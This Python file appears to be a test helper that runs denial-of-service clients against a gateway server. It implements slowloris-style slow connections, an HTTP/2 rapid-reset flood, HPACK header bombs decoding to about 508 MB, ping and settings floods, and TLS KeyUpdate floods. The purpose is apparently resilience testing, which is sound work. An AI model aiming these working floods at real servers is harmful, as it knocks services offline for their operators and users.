# SPDX-License-Identifier: Apache-2.0
"""Attacking clients in a separate process: python attackers.py KIND HOST PORT COUNT [ADDRESSES].

The clients use ADDRESSES local addresses, by default one. The process prints "ready" once all
connections were opened, replaces each connection that the server closes, and ends with its standard
input. `silent` sends nothing, `few` the first three bytes of a TLS record, `half` half a request
line. `slow` sends an endless request head, one byte at a time.

`resets` opens one HTTP/2 connection after another, with requests that are reset at once, using the
key in $PUSHGATE_TEST_KEY. It prints "ready" after COUNT requests, and runs until its standard input
ends.

`header_bombs` (HTTP/2 without TLS) and `key_updates` (TLS) open COUNT concurrent connections
without a key, and replace each that the server ends. They print "ready" once all of them have begun
to send.
"""

import errno
import os
import resource
import select
import socket
import struct
import sys
import threading
import time

from tls_peer import TLSClient

HEAD = b"GET /v1/apps HTTP/1.1\r\nHost: gateway\r\nX-Padding: "


class Crowd:
    def __init__(self, kind, host, port, count, addresses=1):
        self.kind, self.place, self.count, self.addresses = kind, (host, port), count, addresses
        self.open = {}
        self.poller = select.epoll()
        self.opened = self.lost = 0

    def enter(self):
        client = socket.socket()
        client.setblocking(False)
        if self.addresses > 1:
            client.bind((f"127.0.1.{1 + self.opened % self.addresses}", 0))
        if client.connect_ex(self.place) not in (0, errno.EINPROGRESS):
            client.close()
            return
        self.open[client.fileno()] = [client, 0]
        self.poller.register(client, select.EPOLLOUT | select.EPOLLIN)
        self.opened += 1

    def leave(self, number):
        client, _ = self.open.pop(number)
        self.poller.unregister(client)
        client.close()
        self.lost += 1

    def turn(self):
        for number, event in self.poller.poll(0.01, 1000):
            client, sent = self.open[number]
            if event & select.EPOLLOUT and sent == 0:
                self.poller.modify(client, select.EPOLLIN)
                words = {"silent": b"", "few": b"\x16\x03\x01", "half": HEAD[:9], "slow": HEAD}[self.kind]
                self.open[number][1] = 1
                try:
                    client.send(words)
                except OSError:
                    self.leave(number)
            elif event & ~select.EPOLLOUT:
                self.leave(number)

    def drip(self):
        for number in list(self.open):
            try:
                if self.open[number][1]:
                    self.open[number][0].send(b"x")
            except OSError:
                self.leave(number)

    def run(self):
        is_ready, dripped = False, time.monotonic()
        while not select.select([sys.stdin], [], [], 0)[0]:
            # In steps: the network of an attacker is limited, too.
            for _ in range(min(200, self.count - len(self.open))):
                self.enter()
            self.turn()
            if not is_ready and self.opened >= self.count:
                is_ready = True
                print("ready", flush=True)
            if self.kind == "slow" and time.monotonic() > dripped + 1:
                dripped = time.monotonic()
                self.drip()
        print(f"{self.opened} opened, {self.lost} lost, {len(self.open)} open", flush=True)


def goaway_codes(received):
    """The codes of the GOAWAY frames among complete frames."""
    while len(received) >= 9 and len(received) >= 9 + (length := int.from_bytes(received[:3], "big")):
        if received[3] == 7:
            yield int.from_bytes(received[13:17], "big")
        received = received[9 + length:]


class Resets:
    PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"

    def __init__(self, host, port, count):
        self.place, self.count = (host, port), count
        self.sent = self.connections = self.blamed = self.otherwise = 0
        fields = [
            (":method", "GET"), (":scheme", "http"), (":path", "/v1/apps"), (":authority", "gateway"),
            ("authorization", f"Bearer {os.environ['PUSHGATE_TEST_KEY']}")]
        # Literal fields, which do not depend on the dynamic table.
        block = b"".join(
            b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in fields)
        self.batches = [
            b"".join(
                self.frame(1, 5, stream, block) + self.frame(3, 0, stream, b"\0\0\0\x08")
                for stream in range(first, first + 200, 2))
            for first in range(1, 2 * 2_000, 2 * 100)]

    @staticmethod
    def frame(kind, flags, stream, payload):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    def attack(self):
        """Attacks over one connection until the server closes it."""
        with socket.create_connection(self.place, timeout=20) as client:
            self.connections += 1
            received = b""
            try:
                client.sendall(self.PREFACE)
                for batch in self.batches:
                    client.sendall(batch)
                    self.sent += 100
                while piece := client.recv(65536):
                    received += piece
            except ConnectionError:
                pass
            # Counted unless the kernel's reset discarded the GOAWAY. (libnghttp2's own guard may
            # send INTERNAL_ERROR first.)
            for last in list(goaway_codes(received))[-1:]:
                self.blamed += last == 11  # ENHANCE_YOUR_CALM
                self.otherwise += last != 11

    def run(self):
        is_ready = False
        while not select.select([sys.stdin], [], [], 0)[0]:
            self.attack()
            if not is_ready and self.sent >= self.count:
                is_ready = True
                print("ready", flush=True)
        print(f"{self.sent} resets over {self.connections} connections, {self.blamed} ended by ENHANCE_YOUR_CALM, "
              f"{self.otherwise} by other codes", flush=True)


def h2_frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_block(stream, block):
    """HEADERS that end the request, with as many CONTINUATION frames as the block needs."""
    pieces = [block[start:start + 16_384] for start in range(0, len(block), 16_384)]
    return b"".join(
        h2_frame(9 if number else 1, (0 if number else 1) | (4 if number == len(pieces) - 1 else 0), stream, piece)
        for number, piece in enumerate(pieces))


#: GET / http, authority "a".
FIELDS = b"\x82\x86\x84\x41\x01a"
#: An entry of 4,000 bytes for the dynamic table (RFC 7541, 6.2.1), and its reference of one byte.
ENTRY, REFERENCE = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4_000, b"\xbe"
#: Streams of the requests on one connection.
STREAMS = range(1, 40_001, 2)


def header_bombs(_):
    """Header blocks of 131,000 bytes that decode to 508 MB."""
    yield Resets.PREFACE
    for stream in STREAMS:
        yield header_block(stream, FIELDS + ENTRY + REFERENCE * (8 * 16_384 - len(FIELDS + ENTRY)))


def long_header_lists(_):
    """Header lists slightly beyond the limit, with fields of 50 bytes."""
    yield Resets.PREFACE + header_block(1, FIELDS + ENTRY)
    for stream in STREAMS[1:]:
        yield header_block(stream, FIELDS + REFERENCE * 12)


def resets(_):
    """Requests that are reset at once."""
    yield Resets.PREFACE
    for stream in STREAMS:
        yield header_block(stream, FIELDS) + h2_frame(3, 0, stream, b"\0\0\0\x08")


def pings(_):
    yield Resets.PREFACE
    for _ in STREAMS:
        yield h2_frame(6, 0, 0, b"ping....") * 20


def settings(_):
    yield Resets.PREFACE
    for _ in STREAMS:
        yield h2_frame(4, 0, 0, b"\0\x04\0\0\xff\xff") * 20


def key_updates(client):
    """Only KeyUpdate records."""
    while True:
        yield client.key_updates(1_000)


def key_updates_after_preface(client):
    yield client.sealed(Resets.PREFACE)
    yield from key_updates(client)


class Borne(Exception):
    """The server accepted all bytes of the attack, and the connection is open."""


def attack(place, pieces, alpn=None, at_most=None, is_secure=False, started=lambda: None):
    """Sends over one connection until the server ends it. Returns the number of bytes sent after
    the handshake."""
    sent = 0
    with socket.create_connection(place, timeout=60) as client:
        tls = TLSClient(client, alpn) if is_secure else None
        try:
            for piece in pieces(tls):
                client.sendall(piece)
                sent += len(piece)
                started()
                if at_most and sent >= at_most:
                    break
                while select.select([client], [], [], 0)[0]:
                    if not client.recv(65536):
                        return sent
            client.settimeout(5)
            while client.recv(65536):
                pass
        except ConnectionError:
            pass
        except TimeoutError:
            raise Borne(f"{sent} bytes")
    return sent


class Floods:
    """COUNT concurrent connections that attack, each replaced when the server ends it."""

    def __init__(self, kind, host, port, count):
        self.kind, self.place, self.count = kind, (host, port), count
        self.ended = threading.Event()
        self.connections = self.sent = 0

    def flood(self, started):
        pieces = {"header_bombs": header_bombs, "key_updates": key_updates}[self.kind]
        while not self.ended.is_set():
            try:
                self.sent += attack(
                    self.place, pieces, is_secure=self.kind == "key_updates", started=started.set)
            except (OSError, AssertionError, Borne):
                pass  # Refused, or ended during the handshake: repeat.
            self.connections += 1

    def run(self):
        events = [threading.Event() for _ in range(self.count)]
        for event in events:
            threading.Thread(target=self.flood, args=(event,), daemon=True).start()
        for event in events:
            event.wait()
        print("ready", flush=True)
        sys.stdin.read()
        self.ended.set()
        print(f"{self.sent} bytes over {self.connections} connections", flush=True)


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    kind, host, *numbers = sys.argv[1:]
    numbers = map(int, numbers)
    crowds = {"resets": Resets, "header_bombs": Floods, "key_updates": Floods}
    crowd = crowds.get(kind, Crowd)
    (crowd(host, *numbers) if crowd is Resets else crowd(kind, host, *numbers)).run()
